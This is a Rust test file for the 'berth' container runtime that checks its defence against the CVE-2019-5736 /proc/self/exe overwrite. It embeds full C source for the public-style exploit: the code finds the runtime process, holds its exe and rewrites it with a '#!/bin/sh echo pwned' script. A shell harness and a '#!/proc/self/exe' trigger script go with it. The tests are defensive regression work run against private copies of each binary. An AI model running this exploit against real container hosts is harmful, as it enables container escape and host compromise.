//! Class 2 (CVE-2019-5736): the runtime binary as the container's
//! `/proc/self/exe`. The container's program (or a program exec'd into it)
//! is a script `#!/proc/self/exe`, so the kernel runs the runtime's own
//! binary inside the container; a process of the container grabs
//! `/proc/PID/exe` of it (O_PATH) and, once it has exited, reopens it for
//! writing through `/proc/self/fd` and writes — the public PoC. The runtime
//! under attack is a copy of the binary made for the test (a successful
//! attack overwrites it, never the build's own); its sha256 must not change.
//!
//! Also: while a container is created but not started, its init's
//! `/proc/PID/exe` is not the binary on disk and its `/proc/PID/{mem,fd,exe}`
//! cannot be opened from inside the container (the init is not dumpable).

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::rt::{describe, stdout, Sandbox};
use crate::support;
use crate::{require_program, require_root};

/// The attacker: finds the process whose argv is `/proc/self/exe /evil`,
/// holds its exe (O_PATH), reports `found`, then reopens the handle for
/// writing (retrying while it is busy: ETXTBSY until it has exited) and
/// writes. Writes what happened to /result.
const ATTACK_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/statvfs.h>
#include <sys/vfs.h>
#include <unistd.h>

static void report(const char *path, const char *msg) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { write(fd, msg, strlen(msg)); close(fd); }
    printf("%s: %s", path, msg);
}

static double now(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(void) {
    char msg[256], path[64], cmd[256];
    int exe = -1, pid = 0, seen_err = 0;
    double deadline = now() + 20;
    while (exe < 0 && now() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int p = atoi(e->d_name);
            if (p <= 0 || p == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/cmdline", p);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t n = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            if (n <= 0) continue;
            cmd[n] = 0;
            size_t l0 = strlen(cmd);
            if (strcmp(cmd, "/proc/self/exe") || (ssize_t)l0 + 1 >= n || strcmp(cmd + l0 + 1, "/evil")) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", p);
            exe = open(path, O_PATH | O_CLOEXEC);
            if (exe >= 0) { pid = p; break; }
            seen_err = errno;
        }
        if (d) closedir(d);
    }
    if (exe < 0) {
        snprintf(msg, sizeof msg, "not found (%s)\n", seen_err ? strerror(seen_err) : "no such process");
        report("/found", msg);
        report("/result", msg);
        return 1;
    }
    /* What the handle is: a read-only mount, or a sealed memfd. */
    struct statfs sf;
    int ro = fstatfs(exe, &sf) == 0 && (sf.f_flags & ST_RDONLY);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    int rd = open(path, O_RDONLY | O_CLOEXEC);
    int seals = rd >= 0 ? fcntl(rd, F_GET_SEALS) : -1;
    int sealed = seals >= 0 && (seals & F_SEAL_WRITE);
    snprintf(msg, sizeof msg, "pid %d handle %s\n", pid, ro ? "read-only" : sealed ? "sealed" : "WRITABLE");
    report("/found", msg);
    deadline = now() + 20;
    for (;;) {
        int w = open(path, O_WRONLY);
        if (w >= 0) {
            ssize_t n = write(w, "#!/bin/sh\necho pwned\n", 21);
            snprintf(msg, sizeof msg, n == 21 ? "WROTE the runtime binary\n" : "write failed: %s\n", strerror(errno));
            report("/result", msg);
            break;
        }
        if (errno != ETXTBSY || now() > deadline) {
            snprintf(msg, sizeof msg, "open for writing failed: %s\n", strerror(errno));
            report("/result", msg);
            break;
        }
        usleep(1000);
    }
    /* Stay: a container whose main process exits is cleaned up, and the
       test still reads the reports from its root. */
    for (;;) pause();
}
"##;

fn attack_binary() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("berth-escape-exe");
        std::fs::create_dir_all(&dir).unwrap();
        let src = dir.join(format!("attack-{}.c", std::process::id()));
        let out = dir.join(format!("attack-{}", std::process::id()));
        std::fs::write(&src, ATTACK_C).unwrap();
        let st = Command::new("gcc")
            .args(["-static", "-O1", "-o"])
            .arg(&out)
            .arg(&src)
            .status()
            .expect("gcc");
        assert!(st.success(), "gcc -static attack.c");
        out
    })
}

fn sha256(p: &Path) -> String {
    hex::encode(Sha256::digest(std::fs::read(p).unwrap()))
}

/// Copy `bin` and the shared libraries it needs (ldd) into `rootfs`, so the
/// kernel can run it inside the container as a real image would let it.
fn copy_with_libs(bin: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(bin).output().unwrap();
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let lib = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        if let Some(lib) = lib {
            let dst = rootfs.join(lib.strip_prefix("/").unwrap());
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            let _ = std::fs::copy(&lib, &dst);
        }
    }
}

/// Where a runtime is attacked: a private copy of its binary.
struct Victim {
    /// The copy's file (its bytes are what the attack tries to change).
    file: PathBuf,
    /// How to call it (for berth a `berth-runtime` symlink to the copy).
    argv0: PathBuf,
}

fn victim(sb: &Sandbox, runtime: &str) -> Victim {
    let dir = sb.path().join(format!("victim-{runtime}"));
    std::fs::create_dir_all(&dir).unwrap();
    let (src, name) = match runtime {
        "berth" => (support::berth_bin(), "berth"),
        other => (which(other), other),
    };
    let file = dir.join(name);
    std::fs::copy(&src, &file).unwrap();
    let argv0 = if runtime == "berth" {
        let l = dir.join("berth-runtime");
        std::os::unix::fs::symlink(&file, &l).unwrap();
        l
    } else {
        file.clone()
    };
    Victim { file, argv0 }
}

fn which(prog: &str) -> PathBuf {
    std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|d| d.join(prog))
        .find(|p| p.is_file())
        .unwrap_or_else(|| PathBuf::from(prog))
}

/// How the runtime's binary gets to run `/evil`.
#[derive(Clone, Copy, PartialEq)]
enum Via {
    /// `exec ID /evil` into a running container whose init is the attacker.
    Exec,
    /// The container's own program is `/evil`; the attacker was exec'd in
    /// before `start`. No pid namespace, so the attacker outlives the init.
    Init,
}

/// Run the attack on `runtime` (a name: berth, crun, runc); returns what the
/// attacker reported and whether the runtime's binary kept its bytes.
fn attack(runtime: &str, via: Via) -> (String, bool) {
    let sb = Sandbox::new();
    let v = victim(&sb, runtime);
    let before = sha256(&v.file);
    let bundle = sb.bundle("b", |cfg: &mut Value| {
        cfg["root"]["readonly"] = Value::Bool(false);
        let args = match via {
            Via::Exec => serde_json::json!(["/attack"]),
            Via::Init => serde_json::json!(["/evil"]),
        };
        cfg["process"]["args"] = args;
        if via == Via::Init {
            if let Some(ns) = cfg["linux"]["namespaces"].as_array_mut() {
                ns.retain(|n| n["type"] != "pid");
            }
        }
        if let Some(r) = cfg["linux"]["resources"].as_object_mut() {
            // crun 1.8.1 raises RLIMIT_MEMLOCK for device rules (TESTING.md).
            r.remove("devices");
        }
    });
    let rootfs = bundle.join("rootfs");
    std::fs::copy(attack_binary(), rootfs.join("attack")).unwrap();
    std::fs::write(rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        rootfs.join("evil"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    copy_with_libs(&v.file, &rootfs);
    let start = match via {
        Via::Exec => {
            "$R create --bundle $B c </dev/null >/dev/null 2>/dev/null && $R start c\n\
                      $R exec c /evil </dev/null >/dev/null 2>&3 &\n"
        }
        Via::Init => {
            "$R create --bundle $B c </dev/null >/dev/null 2>&3\n\
                      $R exec -d c /attack </dev/null >/dev/null 2>/dev/null\n\
                      $R start c\n"
        }
    };
    // The runtime's binary, run as `/proc/self/exe /evil`, fails on its
    // arguments and writes to stderr: a full pipe holds it there until the
    // attacker has its exe, then the pipe is drained and it exits.
    let script = format!(
        "R=\"{rt} --root {state}\"; B={bundle}; F={rootfs}\n\
         mkfifo {tmp}/pipe; exec 3<>{tmp}/pipe; head -c 65536 /dev/zero >&3\n\
         wait_for() {{ i=0; while [ ! -e \"$1\" ]; do i=$((i+1)); [ $i -gt 3000 ] && return 1; sleep 0.01; done; }}\n\
         {start}\
         wait_for $F/found || echo 'the attacker never reported'\n\
         cat <&3 >/dev/null & D=$!\n\
         wait_for $F/result\n\
         kill $D\n\
         echo found: $(cat $F/found); echo result: $(cat $F/result)\n\
         $R delete -f c >/dev/null 2>&1; true\n",
        rt = v.argv0.display(),
        state = sb.path().join(format!("state-{runtime}")).display(),
        bundle = bundle.display(),
        rootfs = rootfs.display(),
        tmp = sb.path().display(),
    );
    let out = sb.sh(&script);
    let report = format!("{}\n{}", stdout(&out), describe(&out));
    (report, sha256(&v.file) == before)
}

fn assert_defended(report: &str, unchanged: bool) {
    assert!(
        unchanged,
        "the runtime binary was overwritten from the container:\n{report}"
    );
    assert!(
        report.contains("found: pid"),
        "the attack never reached the runtime's binary (proves nothing):\n{report}"
    );
    assert!(
        report.contains("handle read-only") || report.contains("handle sealed"),
        "the container holds a writable handle on the runtime binary:\n{report}"
    );
    assert!(
        report.contains("result: open for writing failed")
            || report.contains("result: write failed"),
        "the write was not refused:\n{report}"
    );
}

#[test]
fn proc_self_exe_script_exec_cannot_overwrite_the_runtime() {
    require_root!();
    require_program!("gcc");
    let (report, unchanged) = attack("berth", Via::Exec);
    eprintln!("berth-runtime exec of #!/proc/self/exe:\n{report}");
    assert_defended(&report, unchanged);
}

#[test]
fn proc_self_exe_script_as_init_cannot_overwrite_the_runtime() {
    require_root!();
    require_program!("gcc");
    let (report, unchanged) = attack("berth", Via::Init);
    eprintln!("berth-runtime create+start of #!/proc/self/exe:\n{report}");
    assert_defended(&report, unchanged);
}

#[test]
fn peers_on_the_proc_self_exe_attack() {
    require_root!();
    require_program!("gcc");
    for peer in ["crun", "runc"] {
        if !support::have_program(peer) {
            eprintln!("{peer}: not installed, skipping");
            continue;
        }
        for (via, name) in [(Via::Exec, "exec"), (Via::Init, "init")] {
            let (report, unchanged) = attack(peer, via);
            let line = |k: &str| {
                report
                    .lines()
                    .find(|l| l.starts_with(k))
                    .unwrap_or("")
                    .to_string()
            };
            eprintln!(
                "PEER {peer} via {name}: binary {} | {} | {}",
                if unchanged {
                    "unchanged"
                } else {
                    "OVERWRITTEN"
                },
                line("found:"),
                line("result:")
            );
        }
    }
}

/// A created (not started) container: its init's exe is not the file on
/// disk, and a root process of the container cannot open its mem, fd or exe.
#[test]
fn created_init_is_neither_the_binary_on_disk_nor_dumpable() {
    require_root!();
    let sb = Sandbox::new();
    let v = victim(&sb, "berth");
    let bundle = sb.bundle("b", |cfg: &mut Value| {
        cfg["process"]["args"] = serde_json::json!(["true"]);
    });
    let script = format!(
        "R=\"{rt} --root {state}\"\n\
         $R create --bundle {bundle} c </dev/null >/dev/null 2>&1 || exit 1\n\
         PID=$($R state c | sed -n 's/.*\"pid\": *\\([0-9]*\\).*/\\1/p')\n\
         echo disk=$(stat -L -c %d:%i {file}) init=$(stat -L -c %d:%i /proc/$PID/exe) fs=$(stat -f -L -c %T /proc/$PID/exe)\n\
         for f in mem fd/0 exe; do\n\
           echo in-container-$f: $($R exec c /bin/probe open /proc/1/$f 2>&1)\n\
         done\n\
         $R delete -f c >/dev/null 2>&1; true\n",
        rt = v.argv0.display(),
        state = sb.state().display(),
        bundle = bundle.display(),
        file = v.file.display(),
    );
    let out = sb.sh(&script);
    let text = stdout(&out);
    eprintln!("{}", describe(&out));
    let field = |k: &str| {
        text.split_whitespace()
            .find_map(|w| w.strip_prefix(&format!("{k}=")))
            .unwrap_or_default()
            .to_string()
    };
    assert!(
        !field("disk").is_empty() && !field("init").is_empty(),
        "{text}"
    );
    assert_ne!(
        field("disk"),
        field("init"),
        "the created init runs the runtime binary on disk"
    );
    for f in ["mem", "fd/0", "exe"] {
        let line = text
            .lines()
            .find(|l| l.starts_with(&format!("in-container-{f}:")))
            .unwrap_or_default();
        assert!(
            line.contains("Permission denied"),
            "the container opened its init's /proc/1/{f}: {line}\n{text}"
        );
    }
}

/// Service mode: a container under a real systemd whose `berth exec` target
/// is `#!/proc/self/exe`, the attacker being the container's own program.
/// The box's `/usr/bin/berth` is the copy install.sh put there.
#[test]
fn service_mode_exec_of_proc_self_exe_cannot_overwrite_berth() {
    use crate::support::systemd_box::{BoxOptions, SystemdBox};
    require_root!();
    require_program!("gcc");
    const ROOTFS: &str = "/srv/evil-root";
    let opts = BoxOptions::default().with_berth().file(
        "/etc/berth/containers/web.toml",
        format!("rootfs = \"{ROOTFS}\"\ncommand = [\"/attack\"]\n"),
    );
    let b = SystemdBox::boot(opts).unwrap_or_else(|e| panic!("box did not boot: {e}"));
    let rootfs = tempfile::tempdir().unwrap();
    support::busybox_rootfs(rootfs.path());
    std::fs::copy(attack_binary(), rootfs.path().join("attack")).unwrap();
    std::fs::write(rootfs.path().join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        rootfs.path().join("evil"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    copy_with_libs(&support::berth_bin(), rootfs.path());
    b.copy_in(rootfs.path(), ROOTFS);
    let before = b.sh_ok("sha256sum /usr/bin/berth | cut -d' ' -f1");
    let out = b.sh(
        "systemctl start berth@web || exit 1\n\
         F=/var/lib/berth/containers/web/upper; [ -d $F ] || F=/srv/evil-root\n\
         mkfifo /tmp/pipe; exec 3<>/tmp/pipe; head -c 65536 /dev/zero >&3\n\
         wait_for() { i=0; while [ ! -e \"$1\" ]; do i=$((i+1)); [ $i -gt 3000 ] && return 1; sleep 0.01; done; }\n\
         berth exec web /evil </dev/null >/dev/null 2>&3 &\n\
         wait_for $F/found || echo 'the attacker never reported'\n\
         cat <&3 >/dev/null & D=$!\n\
         wait_for $F/result\n\
         kill $D\n\
         echo found: $(cat $F/found); echo result: $(cat $F/result)\n",
    );
    let after = b.sh_ok("sha256sum /usr/bin/berth | cut -d' ' -f1");
    let report = format!("{}\n{}", stdout(&out), describe(&out));
    eprintln!("berth exec of #!/proc/self/exe in service mode:\n{report}");
    assert_defended(&report, before == after);
}

/// What a process's exe is, seen from the host as root: its link, its size,
/// its seals, and whether it opens for writing. `probe PID…`.
const EXE_PROBE_C: &str = r##"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        char path[64], link[256] = "";
        snprintf(path, sizeof path, "/proc/%s/exe", argv[i]);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n > 0) link[n] = 0;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        struct stat st = {0};
        if (fd >= 0) fstat(fd, &st);
        int seals = fd >= 0 ? fcntl(fd, F_GET_SEALS) : -1;
        int w = open(path, O_WRONLY | O_CLOEXEC);
        printf("pid=%s link=%s size=%lld sealed=%s write=%s\n", argv[i], link,
               (long long)st.st_size, seals >= 0 && (seals & F_SEAL_WRITE) ? "yes" : "no",
               w >= 0 ? "OPENED" : strerror(errno));
    }
    return 0;
}
"##;

fn exe_probe() -> PathBuf {
    support::static_c_binary("exe-probe", EXE_PROBE_C)
}

/// Service mode runs from /usr/bin/berth itself and reaches a container's
/// program through berth's trampoline, a sealed memfd of a few KiB: a
/// `#!/proc/self/exe 1` script, as the container's program and as a health
/// check, has the kernel run that trampoline, which follows the script's
/// arguments into the script again, for ever. Seen from the host while it
/// loops: its exe is the memfd (not berth's binary, not a copy of it),
/// sealed, refused for writing; /usr/bin/berth keeps its bytes. An exec
/// the trampoline cannot do is still reported by the start, and a
/// container whose processes may hold CAP_SYS_PTRACE gets the protected
/// copy of berth instead (its supervisor says so at debug level).
#[test]
fn service_mode_scripts_of_proc_self_exe_run_the_sealed_trampoline() {
    use crate::support::systemd_box::{BoxOptions, SystemdBox};
    require_root!();
    require_program!("gcc");
    const ROOTFS: &str = "/srv/evil-root";
    let def =
        |extra: &str| format!("rootfs = \"{ROOTFS}\"\nnetwork = {{ mode = \"none\" }}\n{extra}");
    let opts = BoxOptions::default()
        .with_berth()
        .file(
            "/etc/berth/containers/loop.toml",
            def("command = [\"/evil\"]\n[service]\nstop_timeout = \"1s\"\n"),
        )
        .file(
            "/etc/berth/containers/hc.toml",
            def("command = [\"/bin/sleep\", \"600\"]\n[health]\ncommand = [\"/evil\"]\ninterval = \"1s\"\ntimeout = \"30s\"\n[service]\nstop_timeout = \"1s\"\n"),
        )
        .file(
            "/etc/berth/containers/bad.toml",
            def("command = [\"/notelf\"]\n"),
        )
        .file(
            "/etc/berth/containers/traced.toml",
            def("command = [\"/bin/sleep\", \"600\"]\n[security]\ncap_add = [\"SYS_PTRACE\"]\n"),
        )
        .file(
            "/etc/systemd/system/berth@.service.d/90-debug.conf",
            "[Service]\nEnvironment=BERTH_LOG=debug\n",
        );
    let b = SystemdBox::boot(opts).unwrap_or_else(|e| panic!("box did not boot: {e}"));
    let rootfs = tempfile::tempdir().unwrap();
    support::busybox_rootfs(rootfs.path());
    std::fs::write(rootfs.path().join("evil"), "#!/proc/self/exe 1\n").unwrap();
    std::fs::write(rootfs.path().join("notelf"), "not a program\n").unwrap();
    for f in ["evil", "notelf"] {
        std::fs::set_permissions(
            rootfs.path().join(f),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
    }
    b.copy_in(rootfs.path(), ROOTFS);
    let probe_dir = tempfile::tempdir().unwrap();
    std::fs::copy(exe_probe(), probe_dir.path().join("probe")).unwrap();
    b.copy_in(probe_dir.path(), "/opt/probe");
    let before = b.sh_ok("sha256sum /usr/bin/berth | cut -d' ' -f1");
    // The looping process: argv "/proc/self/exe 1 /evil".
    let find = "for p in /proc/[0-9]*; do \
                  c=$(tr '\\0' ' ' < $p/cmdline 2>/dev/null); \
                  [ \"$c\" = '/proc/self/exe 1 /evil ' ] && echo ${p#/proc/}; \
                done | head -1";
    let probe_looping = |unit: &str| -> String {
        b.sh_ok(&format!("systemctl start {unit}"));
        let pid = b.wait_for(find, |o| !o.trim().is_empty(), Duration::from_secs(20));
        let seen = b.sh_ok(&format!("/opt/probe/probe {}", pid.trim()));
        b.sh_ok(&format!("systemctl stop {unit}"));
        seen
    };
    for unit in ["berth@loop", "berth@hc"] {
        let seen = probe_looping(unit);
        eprintln!("{unit}: {seen}");
        assert!(seen.contains("link=/memfd:"), "{unit}: not a memfd: {seen}");
        assert!(seen.contains("sealed=yes"), "{unit}: not sealed: {seen}");
        assert!(
            !seen.contains("OPENED"),
            "{unit}: opened for writing: {seen}"
        );
        let size: u64 = seen
            .split_whitespace()
            .find_map(|w| w.strip_prefix("size="))
            .and_then(|s| s.parse().ok())
            .unwrap_or(u64::MAX);
        assert!(
            size < 64 * 1024,
            "{unit}: the script ran a {size}-byte program, not the trampoline: {seen}"
        );
    }
    assert_eq!(
        before,
        b.sh_ok("sha256sum /usr/bin/berth | cut -d' ' -f1"),
        "/usr/bin/berth changed"
    );

    // An exec the trampoline cannot do fails the start, saying why.
    let out = b.sh("systemctl start berth@bad");
    assert!(
        !out.status.success(),
        "a program that is no program started"
    );
    let journal = b.journal("berth@bad.service");
    assert!(
        journal.contains("/notelf") && journal.contains("exec format error"),
        "the start did not report the failed exec:\n{journal}"
    );

    // CAP_SYS_PTRACE: the protected copy, not the trampoline.
    b.sh_ok("systemctl start berth@traced");
    let journal = b.journal("berth@traced.service");
    assert!(
        journal.contains("re-executing from a protected copy")
            && journal.contains("CAP_SYS_PTRACE"),
        "no protected copy for a container that may ptrace:\n{journal}"
    );
    let journal = b.journal("berth@loop.service");
    assert!(
        !journal.contains("re-executing from a protected copy"),
        "the trampoline's container re-executed berth:\n{journal}"
    );
    b.sh_ok("systemctl stop berth@traced");
}
